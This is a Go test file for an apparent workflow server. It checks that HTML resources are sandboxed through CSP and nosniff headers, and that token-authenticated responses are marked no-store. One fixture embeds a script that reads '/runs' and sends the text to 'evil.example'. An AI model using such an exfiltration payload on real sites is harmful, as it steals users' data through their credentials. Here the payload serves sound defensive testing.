package server_test

import (
	"testing"

	"github.com/asmp-dev/asmp/auth"
	"github.com/asmp-dev/asmp/server"
	"github.com/asmp-dev/asmp/workflow"
)

// A workflow's HTML resource is the author's page, not the API's: served
// in a CSP sandbox (an opaque origin of its own), so a script in it cannot
// read the API with the viewer's credentials. No answer is sniffed.
func TestHTMLResourcesRunSandboxed(t *testing.T) {
	b := workflow.New("page-v1", "SHOW")
	b.State("SHOW").Hint("Look at the page.").
		Resource(workflow.Resource{Path: "page", Name: "A page", MimeType: "text/html",
			Text: `<script>fetch("/runs").then(r => r.text()).then(t => fetch("https://evil.example/?" + t))</script>`})
	b.State("DONE").Hint("Done.")
	b.Transition("SHOW", "done", "DONE")
	e := start(t, setup{defs: []*workflow.Definition{b.MustBuild()}})
	f := e.startRun("page-v1")
	r := e.do("GET", "/runs/"+f.RunID+"/resources/page", nil)
	if r.status != 200 || r.header.Get("Content-Type") != "text/html" {
		t.Fatalf("resource: %d %q %s", r.status, r.header.Get("Content-Type"), r.body)
	}
	if csp := r.header.Get("Content-Security-Policy"); csp != "sandbox" {
		t.Fatalf("an HTML resource is served with Content-Security-Policy %q, want sandbox", csp)
	}
	for _, path := range []string{"/runs/" + f.RunID + "/resources/page", "/runs/" + f.RunID, "/workflows", "/nowhere", "/healthz"} {
		if r := e.do("GET", path, nil); r.header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("GET %s (%d) without X-Content-Type-Options: nosniff", path, r.status)
		}
	}
}

// What needed a token is kept by no cache: every authenticated answer
// says Cache-Control: no-store (a shared proxy or the browser's disk
// would hand it to the next person).
func TestAuthenticatedAnswersAreNotStored(t *testing.T) {
	tokens, err := auth.NewTokens([]string{"admin=" + adminSecret}, "")
	if err != nil {
		t.Fatal(err)
	}
	e := start(t, setup{opts: &server.Options{Authenticate: tokens.Authenticate}})
	bearer := []string{"Authorization", "Bearer " + adminSecret}
	for _, path := range []string{"/", "/workflows", "/openapi.json", "/whoami"} {
		r := e.do("GET", path, nil, bearer...)
		if r.status != 200 {
			t.Fatalf("GET %s: %d %s", path, r.status, r.body)
		}
		if cc := r.header.Get("Cache-Control"); cc != "no-store" {
			t.Errorf("GET %s with a token: Cache-Control %q, want no-store", path, cc)
		}
	}
}
